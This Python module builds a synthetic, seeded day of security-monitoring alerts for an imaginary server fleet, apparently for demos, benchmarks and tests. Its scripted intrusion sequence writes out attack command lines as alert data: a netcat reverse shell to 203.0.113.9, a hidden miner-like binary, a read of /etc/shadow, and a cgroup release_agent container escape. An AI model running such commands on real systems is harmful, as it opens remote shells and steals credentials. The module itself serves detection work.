"""A day of a fleet that does not exist, for newcomers, benchmarks and tests.

Comes in: how many alerts, hosts, and when. Goes out: the same alerts each time, in the order of their times. Most of
them come from one rule, as in real fleets; a few tell the story of an intrusion. Never: a random number that is not of
`seed`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass

from appliance.hub.alert import HubAlert, JsonValue
from appliance.model.alert import Priority
from appliance.model.moment import iso_time

HOUR_NS = 3600 * 1_000_000_000
DAY_NS = 24 * HOUR_NS


@dataclass(frozen=True, slots=True)
class Kind:
    """One rule and what it looks like: `output` is a template over the fields."""

    rule: str
    priority: Priority
    tags: tuple[str, ...]
    weight: float
    output: str
    processes: Sequence[tuple[str, str, str, str]]  # name, command line, parent, parent's parent
    files: Sequence[str] = ()
    container: bool = False
    source: str = "syscall"


NOISE = Kind(
    "Contact K8S API Server From Container", Priority.NOTICE, ("container", "network", "mitre_discovery", "T1613"),
    89.0, "Unexpected connection to K8s API server from container (connection=10.42.{b}.{c}:{port}->10.43.0.1:443)",
    [("flux", "flux reconcile", "runsv", "containerd-shim"),
     ("argocd-agent", "argocd-agent sync", "tini", "containerd-shim")],
    container=True,
)  # fmt: skip

KINDS = (
    NOISE,
    Kind("Read sensitive file untrusted", Priority.WARNING, ("host", "filesystem", "mitre_credential_access", "T1555"),
         2.4,
         "Sensitive file opened for reading by non-trusted program (file={file})",
         [("cat", "cat {file}", "bash", "sshd"), ("backup.sh", "backup.sh --nightly", "cron", "systemd"),
          ("python3", "python3 inventory.py", "ansible", "sshd")], ["/etc/shadow", "/etc/sudoers", "/etc/pam.d/sshd"]),
    Kind("Terminal shell in container", Priority.NOTICE, ("container", "shell", "mitre_execution", "T1059"), 1.2,
         "A shell was spawned in a container with an attached terminal",
         [("bash", "bash -i", "runc", "containerd-shim"), ("sh", "sh", "runc", "containerd-shim")], container=True),
    Kind("Run shell untrusted", Priority.NOTICE, ("host", "container", "process", "shell", "T1059.004"), 1.0,
         "Shell spawned by untrusted binary",
         [("sh", "sh -c uptime", "java", "systemd"), ("bash", "bash -c 'df -h'", "node", "systemd")]),
    Kind("Package management process launched in container", Priority.ERROR, ("container", "process", "T1505"), 0.6,
         "Package management process launched in container",
         [("apt-get", "apt-get install -y curl", "bash", "runc"), ("pip", "pip install requests", "sh", "runc")],
         container=True),
    Kind("Clear log activities", Priority.WARNING, ("host", "filesystem", "mitre_defense_evasion", "T1070"), 0.5,
         "Log files were tampered (file={file})", [("logrotate", "logrotate /etc/logrotate.conf", "cron", "systemd")],
         ["/var/log/nginx/access.log", "/var/log/auth.log"]),
    Kind("Redirect STDOUT/STDIN to network connection in container", Priority.NOTICE, ("container", "network", "T1041"),
         0.4,
         "Redirect stdout/stdin to network connection (connection=10.42.{b}.{c}:{port}->10.42.7.9:9000)",
         [("php-fpm", "php-fpm: pool www", "php-fpm", "tini")], container=True),
    Kind("Write below etc", Priority.ERROR, ("host", "filesystem", "mitre_persistence", "T1543"), 0.9,
         "File below /etc opened for writing (file={file})",
         [("chef-client", "chef-client --once", "systemd", "systemd"), ("vim", "vim {file}", "bash", "sshd")],
         ["/etc/cron.d/cleanup", "/etc/nginx/conf.d/site.conf", "/etc/hosts"]),
    Kind("Launch Privileged Container", Priority.INFORMATIONAL, ("container", "mitre_execution", "T1610"), 0.6,
         "Privileged container started", [("node-exporter", "node-exporter", "containerd-shim", "systemd")],
         container=True),
    Kind("Unexpected UDP Traffic", Priority.NOTICE, ("network", "mitre_exfiltration", "T1048"), 0.8,
         "Unexpected UDP traffic seen (connection=10.0.{b}.{c}:{port}->192.0.2.53:53)",
         [("dnsmasq", "dnsmasq -k", "systemd", "systemd")]),
    Kind("Non sudo setuid", Priority.NOTICE, ("users", "mitre_privilege_escalation", "T1548.001"), 0.7,
         "Unexpected setuid call by non-sudo, non-root program",
         [("postgres", "postgres: checkpointer", "postgres", "systemd")]),
    Kind("K8s Secret Get Successfully", Priority.ERROR, ("k8s", "mitre_credential_access", "T1552"), 0.5,
         "K8s Secret Get Successfully (user=system:serviceaccount:ci:runner secret=deploy-key ns=prod)",
         [("kube-apiserver", "kube-apiserver", "", "")], source="k8s_audit"),
)  # fmt: skip

STORY = (
    (0.600, "Terminal shell in container", Priority.NOTICE, "bash", "bash -i", "java", "/bin/bash", ("shell", "T1059")),
    (0.602, "Launch Suspicious Network Tool in Container", Priority.NOTICE, "nc", "nc 203.0.113.9 4444 -e /bin/sh",
     "bash", "/usr/bin/nc", ("network", "mitre_execution", "T1059")),
    (0.605, "Drop and execute new binary in container", Priority.CRITICAL, "kworkerd",
     "/opt/.x/kworkerd -o pool:3333", "bash", "/opt/.x/kworkerd",
     ("container", "mitre_persistence", "T1059", "PCI_DSS_11.5.1")),
    (0.610, "Read sensitive file untrusted", Priority.WARNING, "kworkerd", "/opt/.x/kworkerd", "bash", "/etc/shadow",
     ("filesystem", "mitre_credential_access", "T1555")),
    (0.614, "Detect release_agent File Container Escapes", Priority.CRITICAL, "sh", "sh -c 'echo /cmd > release_agent'",
     "kworkerd", "/sys/fs/cgroup/rdma/release_agent", ("container", "mitre_privilege_escalation", "T1611")),
)  # fmt: skip


def host_names(n: int) -> list[str]:
    """Names of hosts: some of the web, some databases, some nodes of Kubernetes."""
    kinds = ("web", "db", "k8s-node", "ci", "edge")
    return [f"{kinds[i % len(kinds)]}-{i // len(kinds) + 1:02}" for i in range(n)]


def fleet_alerts(
    count: int, *, start_ns: int, span_ns: int = DAY_NS, hosts: int = 14, seed: int = 1
) -> Iterator[HubAlert]:
    """`count` alerts between `start_ns` and `start_ns + span_ns`, in order; `seq` counts from 1."""
    rng = random.Random(seed)  # noqa: S311 (a demonstration has no secrets)
    names = host_names(hosts)
    weights = [1 / (1 + i) ** 0.5 for i in range(hosts)]
    totals = [kind.weight for kind in KINDS]
    story = {min(count - 1, int(at * count)): n for n, (at, *_) in enumerate(STORY)} if count > 50 else {}
    step = span_ns / max(1, count)
    for i in range(count):
        ts_ns = start_ns + int((i + rng.random() * 0.9) * step)
        if i in story:
            yield _told(i + 1, ts_ns, story[i], rng)
            continue
        [kind] = rng.choices(KINDS, totals)
        [host] = rng.choices(names, weights)
        yield _one(i + 1, ts_ns, kind, host, rng)


def _one(seq: int, ts_ns: int, kind: Kind, host: str, rng: random.Random) -> HubAlert:
    name, command, parent, grand = rng.choice(kind.processes)
    file = rng.choice(kind.files) if kind.files else None
    places = {"file": file, "b": rng.randrange(1, 9), "c": rng.randrange(1, 255), "port": rng.randrange(32768, 60999)}
    who = rng.choice(["root", "root", "www-data", "deploy"])
    fields: dict[str, JsonValue] = {
        "evt.time": ts_ns, "evt.type": "openat" if file else "connect" if "connection" in kind.output else "execve",
        "user.name": who, "user.uid": 0 if who == "root" else 33, "proc.name": name,
        "proc.cmdline": command.format(**places), "proc.exepath": f"/usr/bin/{name}", "proc.pname": parent or None,
        "proc.pid": rng.randrange(1000, 60000), "proc.ppid": rng.randrange(2, 1000),
        "proc.tty": 34816 if "-i" in command else 0,
        "proc.aname[2]": grand or None, "proc.aname[3]": "systemd" if grand and grand != "systemd" else None,
    }  # fmt: skip
    if file:
        fields["fd.name"] = file
    if kind.container:
        fields |= _container(rng.randrange(8))
    else:
        fields |= {"container.id": "host", "container.name": "host"}
    return _alert(
        seq, ts_ns, host, kind.rule, kind.priority, kind.source, kind.tags, kind.output.format(**places), fields
    )


def _container(n: int) -> Mapping[str, JsonValue]:
    app = ("flux", "argocd", "shop", "search", "billing", "grafana", "runner", "mail")[n]
    return {
        "container.id": f"{(n + 1) * 0x1A2B3C4D5E6F & 0xFFFFFFFFFFFF:012x}", "container.name": app,
        "container.image.repository": f"registry.example.com/{app}", "container.image.tag": f"1.{n}.0",
        "k8s.ns.name": "prod", "k8s.pod.name": f"{app}-7d9c{n}",
    }  # fmt: skip


def _told(seq: int, ts_ns: int, n: int, rng: random.Random) -> HubAlert:
    _, rule, priority, name, command, parent, file, tags = STORY[n]
    fields: dict[str, JsonValue] = {
        "evt.time": ts_ns, "evt.type": "execve", "user.name": "tomcat", "user.uid": 1001, "proc.name": name,
        "proc.cmdline": command, "proc.exepath": file, "proc.pname": parent, "proc.pid": 31337 + n,
        "proc.ppid": 31336 + n,
        "proc.aname[2]": "java", "proc.aname[3]": "containerd-shim", "fd.name": file, **_container(2),
    }  # fmt: skip
    return _alert(seq, ts_ns, "k8s-node-01", rule, priority, "syscall", tags, f"{rule} (file={file})", fields)


def _alert(
    seq: int, ts_ns: int, host: str, rule: str, priority: Priority, source: str, tags: Sequence[str], text: str,
    fields: Mapping[str, JsonValue],
) -> HubAlert:  # fmt: skip
    shown = " ".join(f"{key.rpartition('.')[2]}={fields[key]}" for key in _SHOWN if fields.get(key) is not None)
    output = f"{iso_time(ts_ns)[11:]}: {priority.label} {text} | {shown}"
    unique = f"{host}:demo:{seq}"
    return HubAlert(seq, unique, ts_ns, ts_ns + 4_000_000, host, rule, priority, source, tuple(tags), output, fields)


_SHOWN = ("user.name", "proc.name", "proc.cmdline", "proc.pname", "container.name", "container.image.repository")
